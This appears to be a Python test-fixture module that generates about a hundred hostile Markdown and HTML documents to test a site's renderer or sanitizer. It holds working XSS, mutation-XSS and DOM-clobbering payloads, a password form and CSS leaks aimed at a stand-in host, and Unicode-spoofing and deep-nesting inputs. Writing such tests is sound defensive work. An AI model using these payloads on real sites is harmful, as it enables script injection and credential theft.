"""A hundred hostile documents: each tries to run, load, send, cover, hide or break something.

``canary(name)`` is a function that the tests put on every page and into every frame: whoever can run script can call it.
``AWAY`` is a host that does not exist: whoever can make a request can ask it.
"""

# ruff: noqa: E501 (a payload stands in one line, as it would be filed)

from __future__ import annotations

from collections.abc import Iterator

AWAY = "https://canary.example"
_RUN = "canary(1)"
_BEHIND_BASE64 = "PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4="  # <script>canary(1)</script>

# What a document writes, by what it tries. {run} is script that sings, {away} an address elsewhere.
PAYLOADS: dict[str, str] = {
    # script
    "script": "<script>{run}</script>",
    "script-src": '<script src="{away}/s.js"></script><script src=//canary.example/s.js async></script>',
    "script-capitals": "<ScRiPt>{run}</sCrIpT >",
    "script-broken": '<script\n>{run}</script\n>\n<script/x>{run}</script/x>\n<script <b>{run}</script',
    "script-nested": "<scr<script>ipt>{run}</scr</script>ipt>",
    "script-in-comment": "<!--><script>{run}</script>-->\n<!-- --!><script>{run}</script>\n<![CDATA[<script>{run}</script>]]>",
    "script-module": '<script type="module">{run}</script><script type=speculationrules>{{"prefetch":[{{"urls":["{away}/"]}}]}}</script>',
    "script-in-svg": "<svg><script>{run}</script></svg><svg><script href='{away}/s.js'/></svg>",
    "script-in-math": "<math><script>{run}</script></math>",
    "script-entities": "&lt;script&gt;{run}&lt;/script&gt; &#60;script&#62;{run}&#60;/script&#62;",
    # event handlers
    "handler-img": "<img src=x onerror={run}> <img src='x' onerror='{run}'> <img/src/onerror={run}>",
    "handler-load": '<body onload="{run}"><svg onload="{run}"></svg><details open ontoggle="{run}"><summary>x</summary></details>',
    "handler-focus": '<input autofocus onfocus="{run}"><a href="#" autofocus tabindex=1 onfocus="{run}">x</a><button autofocus onfocus={run}>y</button>',
    "handler-animation": '<style>@keyframes a{{}}</style><b style="animation:a 1ms" onanimationstart="{run}">x</b><b ontransitionend={run}>y</b>',
    "handler-media": '<video src=x onerror="{run}"></video><audio src=x onerror="{run}"></audio><video><source onerror="{run}"></video>',
    "handler-marquee": "<marquee onstart={run}>x</marquee><marquee loop=1 width=0 onfinish={run}>y</marquee>",
    "handler-odd-space": "<img\x0csrc=x\x0conerror={run}><img src=x\x0bonerror={run}><a\thref=x\tonclick\x0c=\x0c{run}>x</a>",
    "handler-in-markdown-title": '[x](http://example.org "a" onmouseover="{run}")\n\n![x](x.png "a\\" onerror=\\"{run}")',
    "handler-backticks": '<img src=`x` onerror=`{run}`> <img alt="`><img src=x onerror={run}>`">',
    # addresses that run
    "link-javascript": "[x](javascript:{run}) [y](JaVaScRiPt:{run}) <javascript:{run}> <a href='javascript:{run}'>z</a>",
    "link-javascript-entities": '<a href="&#106;avascript:{run}">x</a><a href="java&Tab;script:{run}">y</a><a href="javascript&colon;{run}">z</a>',
    "link-javascript-spaces": '<a href=" javascript:{run}">x</a><a href="\x01javascript:{run}">y</a><a href="java\nscript:{run}">z</a>',
    "link-javascript-reference": "[x][1] and [y]\n\n[1]: javascript:{run}\n[y]: <javascript:{run}> 'title'",
    "link-vbscript": "[x](vbscript:{run}) [y](livescript:{run}) [z](view-source:javascript:{run})",
    "link-data": "[x](data:text/html;base64," + _BEHIND_BASE64 + ") <a href='data:text/html,<script>{run}</script>'>y</a>",
    "link-blob-file": "[x](blob:{away}/1) [y](file:///etc/passwd) [z](filesystem:{away}/t/1) [w](intent://x#Intent;end)",
    "link-ping": '<a href="#top" ping="{away}/ping">x</a><a href=x download=passwd attributionsrc="{away}/a">y</a>',
    "link-target": '<a href="https://example.org" target=_top rel=opener>x</a><a href=x target=r-content>y</a>',
    "link-other-host": r"[a](//canary.example/x) [b](\\\\canary.example/x) <a href='/\canary.example/x'>c</a> <a href='HTTPS:canary.example'>d</a>",
    # loading from elsewhere
    "image-away": "![x]({away}/i.png) <img src={away}/i.png> <img src=//canary.example/i.png> <img src=HTTPS://canary.example/i.png>",
    "image-away-slashes": "<img src='\\\\canary.example/i.png'> <img src='/\\canary.example/i.png'> <img src='/\t/canary.example/i.png'> <img src='https:canary.example/i.png'>",
    "image-set": "<img srcset='{away}/i.png 1x, {away}/j.png 2x' src=x> <picture><source srcset={away}/i.png><img src=x></picture>",
    "image-lowsrc": "<img lowsrc={away}/i.png dynsrc={away}/i.png longdesc={away}/d><input type=image src={away}/i.png><image src={away}/i.png>",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgxKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)",
    "table-background": "<table background={away}/i.png><tr><td background={away}/j.png>x</td></tr></table><body background={away}/i.png>",
    "media-away": "<video src={away}/v.mp4 poster={away}/p.png autoplay></video><audio src={away}/a.mp3 autoplay></audio><track src={away}/t.vtt>",
    "link-element": '<link rel=stylesheet href={away}/s.css><link rel=prefetch href={away}/p><link rel=dns-prefetch href=//canary.example><link rel=preconnect href={away}>',
    "link-element-icon": '<link rel=icon href={away}/i.ico><link rel=manifest href={away}/m><link rel=modulepreload href={away}/m.js><link rel=import href={away}/i>',
    "iframe": "<iframe src={away}/></iframe><iframe src='javascript:{run}'></iframe><frameset><frame src={away}/></frameset>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.{run}</script>'></iframe><iframe srcdoc=\"&lt;script&gt;top.{run}&lt;/script&gt;\"></iframe>",
    "object": "<object data={away}/o></object><object data='javascript:{run}'></object><applet code={away}/a></applet>",
    "embed": "<embed src={away}/e><embed src='javascript:{run}'><embed src='data:image/svg+xml,<svg onload={run}>'>",
    "portal": "<portal src={away}></portal><fencedframe></fencedframe><webview src={away}></webview><layer src={away}/l></layer>",
    # turning the page to other ends
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={away}/"><meta http-equiv=refresh content="0;javascript:{run}">',
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><meta name=referrer content=unsafe-url><meta charset=utf-7>",
    "base": '<base href="{away}/"><base target=_blank>\n\n[relative](x.html)',
    "title-element": "<title>Another page</title><head><title>Another</title></head>",
    "form": '<form action="{away}/f" method=post><input name=password type=password><input type=submit value="Sign in"></form>',
    "form-outside": '<button form=r-search formaction="{away}/f">Search</button><input form=r-search name=q value=evil type=text><isindex action={away}>',
    "dialog": '<dialog open><form method=dialog>Sign in again</form></dialog><div popover id=p>x</div><button popovertarget=p>y</button>',
    "command": '<button command=show-modal commandfor=r-content>x</button><menuitem icon={away}/i.png>x</menuitem><select><option>a</select><textarea>b</textarea>',
    # styles
    "style-element": "<style>body{{display:none}} .r-banner{{display:none!important}} @import '{away}/s.css';</style>",
    "style-attribute": '<div style="position:fixed;inset:0;background:red;z-index:9999">covers all</div><p style="background:url({away}/b.png)">x</p>',
    "style-expression": '<div style="width:expression({run});behavior:url({away}/h.htc);-moz-binding:url({away}/x.xml)">x</div>',
    "style-in-svg": "<svg><style>*{{display:none}}</style><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "style-leak": '<style>input[value^="a"]{{background:url({away}/a)}} @font-face{{font-family:x;src:url({away}/f)}}</style>',
    "presentational": '<font color=red size=7>x</font><center>y</center><table width=9999 height=9999 border=99 align=right><tr><td nowrap width=9999>z</table><hr size=9999 width=9999>',
    "page-classes": '<div class="r-banner">Current</div><span class="r-st r-st--current">Current</span><header class=r-header>x</header><p class="r-state vh">y</p>',
    "page-classes-slash": '<div/class="r-banner"/id="r-content">x</div><span/class="r-st r-st--current"/id=r-q>Current</span><b\x0cclass=r-skip\x0cid=r-strip>y</b>',
    # pictures and formulae with script in them
    "svg": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror={run}></body></foreignObject></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/><image href='{away}/i.png'/><feImage href='{away}/i.png'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:{run}'/><text>x</text></a><set attributeName=onmouseover to={run}></svg>",
    "math": "<math><maction actiontype='statusline#{away}' xlink:href='javascript:{run}'>x</maction><mtext href='javascript:{run}'>y</mtext></math>",
    "xml": "<?xml-stylesheet href='{away}/s.xsl'?><xml id=x><![CDATA[<img src=x onerror={run}>]]></xml><!ENTITY x SYSTEM '{away}/e'>&x;",
    # what changes its meaning when it is read again
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={run}&gt;\">",
    "mutation-svg": "<svg></p><style><a id=\"</style><img src=x onerror={run}>\">",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "mutation-template": "<template><script>{run}</script><img src=x onerror={run}></template><div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "mutation-textarea": '<textarea><img title="</textarea><img src=x onerror={run}>"></textarea><xmp><p title="</xmp><img src=x onerror={run}>"></xmp>',
    "mutation-plaintext": "<plaintext><listing><img src=x onerror={run}></listing><xmp></plaintext>",
    "mutation-select": "<select><template><style><!--</select><img src=x onerror={run}>--></style></template></select><option><img src=x onerror={run}>",
    "mutation-attributes": "<p title='a\"><img src=x onerror={run}>' lang=\"b'><img src=x onerror={run}>\">x</p><img alt='><img src=x onerror={run}>' src='{away}/a.png'>",
    "mutation-markdown-code": "`<img src=x onerror={run}>` ``` <script>{run}</script> ```\n\n    <script>{run}</script>\n\n~~~html\n<script>{run}</script>\n~~~",
    "mutation-link-text": "[<img src=x onerror={run}>](https://example.org) [a](<https://example.org/\"onmouseover=\"{run}>) [`<b onclick={run}>`](x)",
    "mutation-emphasis": "*<img src=x* onerror={run}> **<b** onclick={run}>** _<a href=\"javas_cript:{run}\">_</a>",
    "mutation-table": "| a | b |\n|---|---|\n| <img src=x | onerror={run}> |\n| <td onclick={run}> | </table><script>{run}</script> |",
    "mutation-footnote": "x[^1] y[^<img src=x onerror={run}>]\n\n[^1]: <img src=x onerror={run}> <script>{run}</script>\n[^<img src=x onerror={run}>]: z",
    "mutation-definition": "<img src=x\n:   onerror={run}>\n\n*[HTML]: <script>{run}</script>\nHTML",
    "mutation-list": "- <div>\n- <script>\n- {run}\n- </script>\n- </div></ul></main><script>{run}</script>",
    # names that stand in for the page's own
    "clobber-names": '<a id=location name=location href=x>a</a><img name=body id=body src=x><img name=querySelector src=x><form name=documentElement></form>',
    "clobber-ids": '<p id=r-content>a</p><p id="r-q">b</p><p id="r-strip">c</p><p id="r-provenance">d</p><p id="r-cite">e</p>',
    "clobber-data": '<div data-columns=x data-list data-count data-search="{away}/p.js" data-fresh="{away}/f" data-stamp=x data-copy=x data-keep-anchor>x</div>',
    "clobber-pagefind": '<div data-pagefind-body data-pagefind-ignore data-pagefind-meta="standing:Current">x</div><b data-pagefind-filter="kind">evil</b>',
    "clobber-anchors": "## r-content\n\n## r-q\n\n## location\n\n## __proto__\n\n## constructor\n\n## constructor",
    "clobber-landmarks": '<main>a</main><nav aria-label="Site">b</nav><header>c</header><footer>d</footer><aside>e</aside><h1>f</h1><div role=banner aria-live=assertive>g</div>',
    "clobber-end-tags": "</div></article></main></div></body></html>\n\n<p>after the end</p>",
    # what hides or turns around
    "right-to-left": "a \u202egnp.exe\u202c b \u2067turned\u2069 c &#x202e;also&#8238; d <bdo dir=rtl>turned</bdo> <p dir=rtl>whole</p>",
    "zero-width": "pay\u200bpal adm\u2060in \ufeffx\u00ady &#8203;z\u200d a\u200cb \U000e0041\U000e0042 v0\u200b.4",
    "stacked-marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b" * 30 + " " + "a" + "\u0489" * 400,
    "control-characters": "ab\x01c\x08d\x1be[31m \x7f \x85 \u2028 \u2029 \ufffe \uffff",
    "long-word": "a" * 20_000 + "\n\n`" + "b" * 20_000 + "`\n\n## " + "c" * 3_000,
    # too much of it
    "deep-quotes": "> " * 1_000 + "deep",
    "deep-lists": "\n".join("    " * depth + "- deep" for depth in range(300)),
    "deep-elements": "<div>" * 1_000 + "deep" + "</div>" * 1_000 + "<b>" * 1_000 + "<blockquote>" * 1_000,
    "deep-tables": "<table><tr><td>" * 200 + "deep",
    "deep-brackets": "[" * 1_000 + "x" + "](y)" * 1_000 + "*" * 1_000 + "`" * 300,
    "huge-table": "|" + " a |" * 300 + "\n|" + "---|" * 300 + "\n" + ("|" + " cell |" * 300 + "\n") * 20,
    "huge-html-table": "<table>" + "<tr>" + "<td colspan=1000 rowspan=65534>wide</td>" * 50 + "</tr></table>",
    "huge-image": '<img src=x width=99999999 height=99999999 alt=x><ol start=-2147483648><li value=2147483647>x</li></ol>',
}  # fmt: skip


def _header(title: str, day: int) -> str:
    return f"# {title}\n\n**Version.** 0.1 **Date.** 2026-05-{day:02} **Status.** Hostile.\n\n"


def _filled(payload: str) -> str:
    return payload.replace("{run}", _RUN).replace("{away}", AWAY).replace("{{", "{").replace("}}", "}")


def body_documents() -> Iterator[tuple[str, str]]:
    """(path, text): one document for each payload. It stands in the text, in a list and in a heading."""
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        filled = _filled(payload)
        once = f"Before.\n\n{filled}\n\nAfter.\n"
        again = "" if len(filled) > 2_000 or "\n" in filled else f"\n## §1 {filled}\n\n- an item with {filled}\n"
        yield f"hostile/{name}-v0_1.md", _header(f"Hostile {name}", 1 + number % 28) + once + again


# In places that the page tells outside the body: titles, facts, names, citations.
_IN_HEADERS = ("script", "handler-img", "link-javascript", "mutation-attributes", "iframe", "style-element", "right-to-left", "zero-width", "stacked-marks")  # fmt: skip


def header_documents() -> Iterator[tuple[str, str]]:
    """(path, text): payloads as title, header values, labels and front matter; two versions each, so that they are
    compared and listed."""
    for name in _IN_HEADERS:
        filled = " ".join(_filled(PAYLOADS[name]).split())
        for version, folder in (("0_1", "archive/"), ("0_2", "")):
            path = f"phases/phase-66-headers/{folder}phase-66-{name}-v{version}.md"
            yield (
                path,
                (
                    f"# Title {filled}\n\n**Version.** {version.replace('_', '.')}\n**Date.** 2026-05-12\n"
                    f"**Status.** {filled}\n**Purpose.** {filled}\n**{filled}.** value\n\n## §1 {filled}\n\n"
                    f"Text of {version}. See phase-66-{name}-v0_1.md and {filled}.\n"
                ),
            )


_PAGE = """<!doctype html><html lang="en"><head><title>{title} v0.1 2026-05-12</title>{head}</head>
<body><h1>{title}</h1><p>v0.1 2026-05-12</p>{body}</body></html>
"""
# Filed as HTML: these may keep their looks, in a frame where they can do nothing.
PAGES: dict[str, tuple[str, str]] = {
    "html-script": ("<script>{run}</script>", "<script>{run}</script><img src=x onerror={run}>"),
    "html-away": ("<link rel=stylesheet href={away}/s.css>", "<img src={away}/i.png><iframe src={away}></iframe>"),
    "html-style": ("<style>@import '{away}/s.css'; body{{background:url({away}/b.png)}}</style>", "<p style='position:fixed;inset:0;background:red'>x</p>"),
    "html-top": ("<base target=_top>", "<script>top.location='{away}'</script><a href={away} target=_top>x</a>"),
    "html-refresh": ("<meta http-equiv=refresh content='0;url={away}/'>", "x"),
    "html-form": ("", "<form action={away}/f><input name=a autofocus onfocus={run}></form><script>document.forms[0].submit()</script>"),
    "html-parent": ("", "<script>parent.{run};parent.document.title='x'</script><iframe srcdoc='<script>top.{run}</script>'></iframe>"),
    "html-worker": ("", "<script>new Worker('data:text/javascript,');open('{away}');alert(1);print()</script>"),
    "html-object": ("", "<object data={away}/o></object><embed src={away}/e><video src={away}/v autoplay></video>"),
}  # fmt: skip


def html_documents() -> Iterator[tuple[str, str]]:
    """(path, text) of the documents that were filed as HTML."""
    for name, (head, body) in PAGES.items():
        title = f"Hostile {name}"
        yield f"hostile/{name}-v0_1.html", _PAGE.format(title=title, head=_filled(head), body=_filled(body))


BENIGN = "hostile/benign-v0_1.md"


def record() -> dict[str, str | bytes]:
    """All of them, and a benign one to compare the page around a body with."""
    content: dict[str, str | bytes] = {BENIGN: _header("Benign", 1) + "Before.\n\nNothing.\n\nAfter.\n"}
    for path, text in (*body_documents(), *header_documents(), *html_documents()):
        content[path] = text.encode("utf-8", "surrogatepass")
    return content
